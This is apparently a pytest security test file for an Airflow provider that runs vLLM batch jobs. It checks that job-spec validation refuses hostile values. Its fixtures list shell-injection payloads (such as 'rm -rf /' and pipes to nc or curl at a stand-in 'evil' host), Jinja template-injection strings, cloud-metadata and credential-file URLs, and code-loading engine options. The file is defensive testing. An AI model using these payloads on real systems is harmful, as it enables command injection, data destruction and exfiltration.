"""Every string and location of a job spec checked at validation and by the deployment's
rules (``core/spec_guard.py``): shell and Jinja payloads, oversized values, every location field held to
the allow-list, storage options that would choose an endpoint, credentials or access control, and
code-loading engine options. Free text is the exception by design: shell metacharacters in a prompt are
data and reach the engine verbatim (tests/unit/worker/test_prompts.py); Jinja delimiters are refused
everywhere. The real DAGs' param validation: tests/airflow/test_security_dags.py.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest

from airflow_provider_vllm.core.allow_list import ALLOWED_PREFIXES_ENV
from airflow_provider_vllm.core.errors import EXIT_TERMINAL, SpecError
from airflow_provider_vllm.core.spec import JobSpec
from airflow_provider_vllm.core.spec_guard import MAX_LABELS, check_deployment
from tests.conftest import worker_environ
from tests.support import ROOT
from tests.support.data import PLAN_REF
from tests.support.ledger import record_malicious
from tests.support.security import A, _ti, base_doc, prefixes, refused, with_value

pytestmark = pytest.mark.reliability


SHELL = [
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "x | nc evil 80",
    "x && curl evil",
    "x > /etc/passwd",
    "${HOME}",
    "x\nid",
    "'; DROP TABLE t; --",
]


JINJA = [
    "{{ 7*7 }}",
    "{% import os %}",
    "{# c #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "x {{config}}",
    "{%raw%}x{%endraw%}",
]


IDENTIFIER_FIELDS = [
    "name",
    "model.name",
    "model.revision",
    "model.tokenizer_revision",
    "model.tokenizer",
    "model.quantization",
    "prompt.id_column",
    "prompt.text_columns",
    "sampling.structured.choice",
    "engine.engine_kwargs.tokenizer_mode",
    "io.storage_options.endpoint_url",
    "qa.previous_report_uri",
    "io.input_uri",
    "io.output_uri",
]


FREE_TEXT_FIELDS = ["prompt.system_prompt", "prompt.template", "sampling.stop", "sampling.structured.regex"]


def test_overlapping_input_and_output_and_credentials_in_the_spec_are_refused(allowed):
    doc = with_value(base_doc(allowed), "io.output_uri", str(allowed / "in" / "out"))
    assert "overlap" in refused(doc, prefixes(allowed))
    # a baseline in the run's own folder (or holding it) is the run itself: compared with itself, nothing changes
    for field, value in [
        ("changes.previous_uri", "/out"),
        ("changes.previous_uri", "/out/dt=2026-11-29/"),
        ("changes.previous_uri", ""),
        ("qa.previous_report_uri", "/out/qa/report.json"),
    ]:
        msg = refused(with_value(base_doc(allowed), field, f"{allowed}{value}"), prefixes(allowed))
        assert msg is not None and f"{field}=" in msg and "compared with itself" in msg, msg
    record_malicious("baseline_in_own_folder", 4, 4)
    secret = "AKIA-SENTINEL-9f8e7d"
    for key in ("key", "secret", "token", "aws_secret_access_key", "session_token"):
        doc = with_value(base_doc(allowed), f"io.storage_options.{key}", secret)
        msg = refused(doc, prefixes(allowed))
        assert msg is not None and "credentials" in msg and secret not in msg
    record_malicious("credentials_in_spec", 5, 5)


# ---- string params --------------------------------------------------------------------
@pytest.mark.parametrize("field", IDENTIFIER_FIELDS)
def test_shell_and_jinja_payloads_in_identifier_params_are_refused(allowed, field):
    tried = rejected = 0
    for payload in SHELL + JINJA:
        tried += 1
        if refused(with_value(base_doc(allowed), field, payload), prefixes(allowed)) is not None:
            rejected += 1
        else:
            print(f"ACCEPTED {field}={payload!r}")
    record_malicious(f"payload_{field}", tried, rejected)
    assert rejected == tried


@pytest.mark.parametrize("field", FREE_TEXT_FIELDS)
def test_jinja_in_free_text_is_refused_shell_text_is_kept_as_data(allowed, field):
    tried = rejected = 0
    for payload in JINJA:
        tried += 1
        msg = refused(with_value(base_doc(allowed), field, payload), prefixes(allowed))
        rejected += msg is not None
    record_malicious(f"jinja_{field}", tried, rejected)
    assert rejected == tried
    for payload in SHELL:  # accepted: data for the tokenizer, proven verbatim below
        doc = with_value(base_doc(allowed), field, payload)
        if field == "sampling.structured.regex" and payload == "${HOME}":
            continue
        assert refused(doc, prefixes(allowed)) is None, (field, payload)


def test_oversized_params_are_refused(allowed):
    cases = {
        "labels": with_value(base_doc(allowed), "sampling.structured.choice", "x"),
        "label": with_value(base_doc(allowed), "sampling.structured.choice", "y" * 101),
        "system_prompt": with_value(base_doc(allowed), "prompt.system_prompt", "z" * 70_000),
        "model": with_value(base_doc(allowed), "model.name", "m" * 5000),
        "stop": with_value(base_doc(allowed), "sampling.stop", "s"),
        "uri": with_value(base_doc(allowed), "io.input_uri", str(allowed / "in") + "/" + "d" * 5000),
    }
    cases["labels"]["sampling"]["structured"]["choice"] = [f"label{i}" for i in range(MAX_LABELS + 1)]
    cases["stop"]["sampling"]["stop"] = [f"s{i}" for i in range(50)]
    results = {k: refused(d, prefixes(allowed)) for k, d in cases.items()}
    record_malicious("oversized", len(cases), sum(v is not None for v in results.values()))
    assert all(results.values()), {k: v for k, v in results.items() if v is None}
    assert f"at most {MAX_LABELS}" in results["labels"]


HOSTILE_LOCATIONS = [
    "s3://evil/x",
    "s3://data-other/in",
    "http://169.254.169.254/latest/meta-data",
    "https://evil.example/x",
    "s3://user:pass@data/in",
    "s3://data/in/../../other",
    f"{A}/in/../../etc",
    "/etc",
    "file:///root/.aws",
    "ftp://evil/x",
    f"{A}-sibling/in",
]


LOCATION_FIELDS = {
    "sharding.history_uri": "",
    "qa.previous_report_uri": "/qa/report.json",
    "model.name": "",
    "model.tokenizer": "",
    "changes.previous_uri": "/",
}


RELATIVE_MODEL_PATHS = [".cache/models/x", "./models/x", "~/models/x", "a/b/c", "../models/x"]


@pytest.mark.parametrize("field", sorted(LOCATION_FIELDS))
def test_every_location_field_is_held_to_the_allow_list(allowed, field):
    values = [v.replace(A, str(allowed)) + LOCATION_FIELDS[field] for v in HOSTILE_LOCATIONS]
    if field.startswith("model."):
        values += RELATIVE_MODEL_PATHS
    tried = rejected = 0
    for value in values:
        tried += 1
        msg = refused(with_value(base_doc(allowed), field, value), prefixes(allowed))
        if msg is not None and field in msg:
            rejected += 1
        else:
            print(f"ACCEPTED or unnamed {field}={value!r}: {msg}")
    record_malicious(f"location_{field}", tried, rejected)
    assert rejected == tried
    # inside the allow-list they pass (a hub id is no location)
    ok = {
        "sharding.history_uri": str(allowed / "history"),
        "qa.previous_report_uri": str(allowed / "r.json"),
        "model.name": str(allowed / "model"),
        "model.tokenizer": "org/name",
        "changes.previous_uri": str(allowed / "runs" / "dt=2026-11-29") + "/",
    }[field]
    assert refused(with_value(base_doc(allowed), field, ok), prefixes(allowed)) is None


HOSTILE_STORAGE_OPTIONS = [
    {"endpoint_url": "http://127.0.0.1:9000"},
    {"client_kwargs": {"endpoint_url": "http://169.254.169.254"}},
    {"client_kwargs": {"region_name": "us-east-1", "endpoint_url": "http://evil"}},
    {"endpoint": "evil:80"},
    {"host": "evil.example"},
    {"port": 8080},
    {"proxy": "http://proxy.evil:3128"},
    {"config_kwargs": {"proxies": {"https": "http://proxy.evil"}}},
    {"client_kwargs": {"headers": {"Metadata-Flavor": "Google"}}},
    {"headers": {"X-aws-ec2-metadata-token": "x"}},
    {"anon": "http://user:pass@evil/"},
    {"client_kwargs": {"region_name": "user:pass@evil"}},
    {"profile": "admin"},
    {"use_ssl": False},
    {"config_kwargs": {"signature_version": "UNSIGNED"}},
    {"s3_additional_kwargs": {"SSECustomerKey": "k"}},
    {"client_kwargs": {"aws_session_token": "t"}},
    {"key": "AKIA"},
    {"token": "ya29.x"},
    {"session": "x"},
    {"config_kwargs": {"retries": {"mode": "x", "url": "y"}}},
]


# Access control, identity and billing of objects: the deployment's (bucket policy, Object Ownership,
# default encryption, FSSPEC_S3_* / FSSPEC_GCS_* in the worker's environment), never a job's.
HOSTILE_ACCESS_OPTIONS = [
    {"s3_additional_kwargs": {"ACL": "public-read"}},
    {"s3_additional_kwargs": {"ACL": "bucket-owner-full-control"}},
    {"s3_additional_kwargs": {"acl": "public-read-write"}},
    {"s3_additional_kwargs": {"GrantRead": "uri=http://acs.amazonaws.com/groups/global/AllUsers"}},
    {"s3_additional_kwargs": {"GrantRead": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantFullControl": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantReadACP": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantWriteACP": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantWrite": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"ObjectOwnership": "ObjectWriter"}},
    {"s3_additional_kwargs": {"ExpectedBucketOwner": "111122223333"}},
    {"s3_additional_kwargs": {"ObjectLockMode": "COMPLIANCE"}},
    {"s3_additional_kwargs": {"ObjectLockRetainUntilDate": "2099-01-01"}},
    {"s3_additional_kwargs": {"ObjectLockLegalHoldStatus": "ON"}},
    {"s3_additional_kwargs": {"SSEKMSKeyId": "arn:aws:kms:us-east-1:999999999999:key/x"}},
    {"s3_additional_kwargs": {"SSEKMSKeyId": "alias/other-team"}},
    {"s3_additional_kwargs": {"SSECustomerAlgorithm": "AES256"}},
    {"s3_additional_kwargs": {"SSEKMSEncryptionContext": "e30="}},
    {"s3_additional_kwargs": {"BucketKeyEnabled": False}},
    {"s3_additional_kwargs": {"RequestPayer": "requester"}},
    {"s3_additional_kwargs": {"WebsiteRedirectLocation": "/phish"}},
    {"s3_additional_kwargs": {"Tagging": "public=true"}},
    {"s3_additional_kwargs": {"Metadata": {"x": "y"}}},
    {"s3_additional_kwargs": {"ServerSideEncryption": "none"}},
    {"s3_additional_kwargs": {"StorageClass": "DEEP_ARCHIVE"}},
    {"s3_additional_kwargs": {"StorageClass": "GLACIER"}},
    {"s3_additional_kwargs": ["ACL", "public-read"]},
    {"anon": True},
    {"anon": False},
    {"requester_pays": True},
    {"access": "full_control"},
    {"project": "other-team"},
    {"default_acl": "publicRead"},
    {"fixed_acl": "publicRead"},
    {"acl": "public-read"},
    {"session_kwargs": {"trust_env": True}},
    {"username": "u"},
    {"client_kwargs": {"region_name": "us-east-1.evil.example"}},
    {"client_kwargs": {"region_name": True}},
]


def test_storage_endpoints_and_credentials_come_from_the_deployment_only(allowed):
    tried = rejected = 0
    for options in HOSTILE_STORAGE_OPTIONS:
        tried += 1
        msg = refused(with_value(base_doc(allowed), "io.storage_options", options), prefixes(allowed))
        if msg is not None and "io.storage_options." in msg:
            rejected += 1
        else:
            print(f"ACCEPTED io.storage_options={options!r}: {msg}")
    record_malicious("storage_options_endpoint_or_credentials", tried, rejected)
    assert rejected == tried
    msg = refused(with_value(base_doc(allowed), "io.storage_options", {"endpoint_url": "http://x"}), prefixes(allowed))
    assert "AWS_ENDPOINT_URL" in msg and "connection" in msg
    fine = {
        "client_kwargs": {"region_name": "eu-west-1"},
        "config_kwargs": {"retries": {"max_attempts": 3}, "read_timeout": 30},
        "s3_additional_kwargs": {"ServerSideEncryption": "aws:kms", "StorageClass": "INTELLIGENT_TIERING"},
        "version_aware": True,
    }
    assert refused(with_value(base_doc(allowed), "io.storage_options", fine), prefixes(allowed)) is None
    for region in ("us-east-1", "us-gov-west-1", "ap-southeast-2", "il-central-1"):
        doc = with_value(base_doc(allowed), "io.storage_options", {"client_kwargs": {"region_name": region}})
        assert refused(doc, prefixes(allowed)) is None, region


def test_access_control_on_objects_is_the_deployments(allowed):
    """ACLs, grants, ownership, object lock, KMS keys, anonymous or requester-pays access: refused, naming the key."""
    tried = rejected = 0
    for options in HOSTILE_ACCESS_OPTIONS:
        tried += 1
        msg = refused(with_value(base_doc(allowed), "io.storage_options", options), prefixes(allowed))
        key = next(iter(options))
        sub = options[key]
        nested = isinstance(sub, dict) and key in ("s3_additional_kwargs", "client_kwargs")
        named = f"io.storage_options.{key}" + (f".{next(iter(sub))}" if nested else "")
        if msg is not None and named in msg:
            rejected += 1
        else:
            print(f"ACCEPTED or unnamed io.storage_options={options!r}: {msg}")
    record_malicious("storage_options_access_control", tried, rejected)
    assert rejected == tried
    msg = refused(
        with_value(base_doc(allowed), "io.storage_options", {"s3_additional_kwargs": {"ACL": "public-read"}}),
        prefixes(allowed),
    )
    assert "io.storage_options.s3_additional_kwargs.ACL" in msg and "bucket policy" in msg


class _Recorder:
    """A real HTTP server on loopback that records every request it sees (and answers 200)."""

    def __enter__(self):
        import http.server
        import threading

        seen = self.seen = []

        class H(http.server.BaseHTTPRequestHandler):
            def _any(self):
                seen.append((self.command, self.path))
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"<ListBucketResult/>")

            do_GET = do_PUT = do_POST = do_HEAD = do_DELETE = _any

            def log_message(self, *a):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def test_a_spec_endpoint_never_reaches_a_server(allowed, tmp_path, monkeypatch):
    """endpoint_url in the spec, pointed at a real loopback server: plan and worker refuse, the server sees nothing."""
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.operators import VllmPlanOperator

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    with _Recorder() as server:
        doc = base_doc(allowed)
        doc["io"] = {
            "input_uri": "s3://data/in/",
            "output_uri": "s3://data/out/run",
            "storage_options": {"client_kwargs": {"endpoint_url": server.url}},
        }
        ti = _ti()
        with pytest.raises(AirflowFailException, match="io.storage_options.client_kwargs.endpoint_url"):
            VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": ti, "params": {}})
        assert ti.xcoms == {}
        doc["io"]["storage_options"] = {"endpoint_url": server.url}
        task = {"spec": doc, "shard_id": "shard-00000-0123abcd", **PLAN_REF}
        env = {**worker_environ(), ALLOWED_PREFIXES_ENV: json.dumps(prefixes(allowed)), "PYTHONPATH": str(ROOT)}
        p = subprocess.run(
            [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert p.returncode == EXIT_TERMINAL and "io.storage_options.endpoint_url" in p.stdout, p.stdout
        assert server.seen == []
    record_malicious("spec_endpoint_to_loopback_server", 2, 2)


CODE_LOADING_ENGINE_KWARGS = [
    {"worker_cls": "evil.Worker"},
    {"worker_extension_cls": "evil.Ext"},
    {"model_loader_extra_config": {"a": 1}},
    {"compilation_config": {"backend": "evil.module.compile"}},
    {"compilation_config": {"inductor_passes": {"p": "evil.module.Pass"}}},
    {"compilation_config": {"inductor_compile_config": {"post_grad_custom_post_pass": "evil.p"}}},
    {"compilation_config": {"debug_dump_path": "/tmp/dump"}},
    {"compilation_config": {"cache_dir": "/tmp/c"}},
    {"compilation_config": "evil.module.compile"},
    {"compilation_config": True},
    {"hf_overrides": {"auto_map": {"AutoModel": "evil--m.Model"}}},
    {"hf_overrides": {"text_config": {"auto_map": {"AutoConfig": "evil.C"}}}},
    {"hf_overrides": {"tokenizer_class": "evil.Tok"}},
    {"tokenizer_mode": "custom"},
    {"load_format": "pt"},
]


def test_code_loading_engine_options_and_remote_code_need_the_deployment(allowed):
    """Refused by the spec's reviewed list, or by the deployment's remote-code gate (the worker has the same)."""
    from airflow_provider_vllm.core.spec_guard import check_remote_code

    tried = rejected = 0
    for kwargs in CODE_LOADING_ENGINE_KWARGS + [None]:
        tried += 1
        doc = (
            with_value(base_doc(allowed), "model.trust_remote_code", True)
            if kwargs is None
            else with_value(base_doc(allowed), "engine.engine_kwargs", kwargs)
        )
        try:
            spec = JobSpec.load(doc)
            check_deployment(spec, prefixes(allowed))
            check_remote_code(spec, allowed=False)
        except SpecError as e:
            rejected += "engine_kwargs" in str(e) or "trust_remote_code" in str(e)
        else:
            print(f"ACCEPTED {kwargs}")
    record_malicious("code_loading_engine_options", tried, rejected)
    assert rejected == tried
    data_only = {
        "compilation_config": {"level": 3, "cudagraph_capture_sizes": [1, 2, 4]},
        "tokenizer_mode": "auto",
        "hf_overrides": {"rope_scaling": {"factor": 2.0, "rope_type": "linear"}},
        "block_size": 16,
    }
    spec = JobSpec.load(with_value(base_doc(allowed), "engine.engine_kwargs", data_only))
    check_remote_code(spec, allowed=False)  # data-only options need nothing
    pinned = with_value(base_doc(allowed), "model.revision", "0" * 40)
    check_remote_code(JobSpec.load(with_value(pinned, "model.trust_remote_code", True)), allowed=True)


@pytest.mark.parametrize(
    ("model", "message"),
    [
        ({}, "model.revision=None"),
        ({"revision": "main"}, "model.revision='main'"),
        ({"revision": "refs/pr/1"}, "model.revision='refs/pr/1'"),
        ({"revision": "v1.0"}, "model.revision='v1.0'"),
        ({"revision": "main", "tokenizer": "org/tok"}, "model.revision='main'"),
        (
            {"revision": "0" * 40, "tokenizer": "org/tok", "tokenizer_revision": "main"},
            "model.tokenizer_revision='main'",
        ),
    ],
)
def test_remote_code_from_the_hub_needs_a_commit_pinned_repo(allowed, model, message):
    """With remote code allowed and on, a hub model (or tokenizer) runs the code of the revision it names: a
    branch, tag or refs/pr/N moves to whatever is pushed there next, so only a commit sha is accepted."""
    from airflow_provider_vllm.core.spec_guard import check_remote_code

    doc = with_value(base_doc(allowed), "model.trust_remote_code", True)
    doc["model"].update(model)
    with pytest.raises(SpecError, match=re.escape(message)):
        check_remote_code(JobSpec.load(doc), allowed=True)
    # pinned: runs; a local model folder (inside the allow-list) needs no revision
    doc["model"].update(revision="a" * 40, tokenizer_revision="b" * 40 if "tokenizer" in model else None)
    check_remote_code(JobSpec.load(doc), allowed=True)
    local = with_value(base_doc(allowed), "model.trust_remote_code", True)
    local["model"]["name"] = str(allowed)
    check_remote_code(JobSpec.load(local), allowed=True)
    # without remote code a branch is fine, as before
    check_remote_code(JobSpec.load(with_value(base_doc(allowed), "model.revision", "main")), allowed=False)


def test_adapter_sources_stay_inside_the_allow_list(allowed, tmp_path):
    """A LoRA adapter is read like a model: a local or object store source only inside the allowed prefixes
    (symlinks resolved), a hub one only pinned to a commit."""
    (allowed / "adapters" / "ok").mkdir(parents=True)
    outside = tmp_path / "elsewhere" / "ad"
    outside.mkdir(parents=True)
    (allowed / "adapters" / "link").symlink_to(outside)

    def doc(source, revision=None):
        d = base_doc(allowed)
        d["model"]["adapters"] = [{"name": "a", "source": source, **({"revision": revision} if revision else {})}]
        return d

    ok = [str(allowed / "adapters" / "ok"), "s3://data/in/adapters/a", "org/adapter"]
    assert [refused(doc(s, "c" * 40 if s == "org/adapter" else None), prefixes(allowed)) for s in ok] == [None] * 3
    hostile = [
        (str(outside), "is outside the allowed"),
        (str(allowed / "adapters" / "link"), "is outside the allowed"),
        ("file://" + str(outside), "is outside the allowed"),
        ("s3://other-bucket/adapters/a", "is outside the allowed"),
        ("s3://data/in/../other/a", "'..' path segments"),
        ("gs://data/in/a", "is outside the allowed"),
        (str(allowed / "adapters" / ".." / ".." / "elsewhere" / "ad"), "must be a hub id (org/name), a local path"),
        ("http://example.com/adapter", "neither a hub repo id"),
        ("~/adapters/a", "neither a hub repo id"),
        ("org/adapter", "needs revision"),
    ]
    got = {s: refused(doc(s), prefixes(allowed)) for s, _ in hostile}
    record_malicious("adapter_sources_outside_the_allow_list", len(hostile), sum(bool(m) for m in got.values()))
    for s, fragment in hostile:
        assert got[s] is not None and fragment in got[s], (s, got[s])


@pytest.mark.parametrize("name", ["outside/evil", "org"])
def test_a_hub_id_that_is_also_a_relative_path_is_refused(allowed, tmp_path, monkeypatch, name):
    """vLLM tries ``Path(name).exists()`` before the hub: an existing relative folder would load as local
    weights from the working directory, outside the allow-list."""
    (tmp_path / "cwd" / name).mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "cwd")
    for field in ("model.name", "model.tokenizer"):
        msg = refused(with_value(base_doc(allowed), field, name), prefixes(allowed))
        assert msg is not None and field in msg and "absolute path inside the allowed prefixes" in msg, msg
    if "/" in name:
        doc = base_doc(allowed)
        doc["model"]["adapters"] = [{"name": "a", "source": name, "revision": "c" * 40}]
        msg = refused(doc, prefixes(allowed))
        assert msg is not None and "model.adapters[a].source" in msg, msg
    monkeypatch.chdir(tmp_path)  # where it names no path, it is a hub id
    assert refused(with_value(base_doc(allowed), "model.name", name), prefixes(allowed)) is None


def test_a_second_store_name_does_not_pass_a_baseline_or_input_off_as_another_location(allowed):
    """fsspec reads ``s3a://`` as ``s3://`` and ``gcs://`` as ``gs://``: compared by their canonical form, a
    baseline in the run's own folder, or an input holding the output, spelled with the other name passed as another
    location (the run compared with itself, outputs written into the input). The allow-list lists both names here;
    it still compares by the name itself (an ``s3://`` prefix does not let ``s3a://`` in)."""
    both = prefixes(allowed) + ["s3a://data/out", "s3a://data/in", "gs://lake", "gcs://lake"]
    cases = [
        ("s3://data/out/run", "changes.previous_uri", "s3a://data/out/run/"),
        ("s3a://data/out/run", "qa.previous_report_uri", "s3://data/out/run/qa/report.json"),
        ("gs://lake/out/run", "changes.previous_uri", "gcs://lake/out/run"),
        ("gcs://lake/out", "changes.previous_uri", "gs://lake/out/run/"),
    ]
    for out, field, value in cases:
        doc = with_value(with_value(base_doc(allowed), "io.output_uri", out), field, value)
        msg = refused(doc, both)
        assert msg is not None and "compared with itself" in msg, (out, field, value, msg)
    for out, inp in [("s3a://data/in/out", "s3://data/in"), ("gcs://lake/in/out", "gs://lake/in/")]:
        msg = refused(with_value(with_value(base_doc(allowed), "io.output_uri", out), "io.input_uri", inp), both)
        assert msg is not None and "overlap; write outputs outside the input" in msg, (out, inp, msg)
    record_malicious("store_alias_overlap", len(cases) + 2, len(cases) + 2)
    doc = with_value(
        with_value(base_doc(allowed), "io.output_uri", "s3://data/out/run"), "io.input_uri", "s3://data/in"
    )
    assert refused(doc, both) is None  # apart under either name
    assert "outside the allowed prefixes" in refused(
        with_value(base_doc(allowed), "io.output_uri", "s3a://data/out/run"), prefixes(allowed)
    )
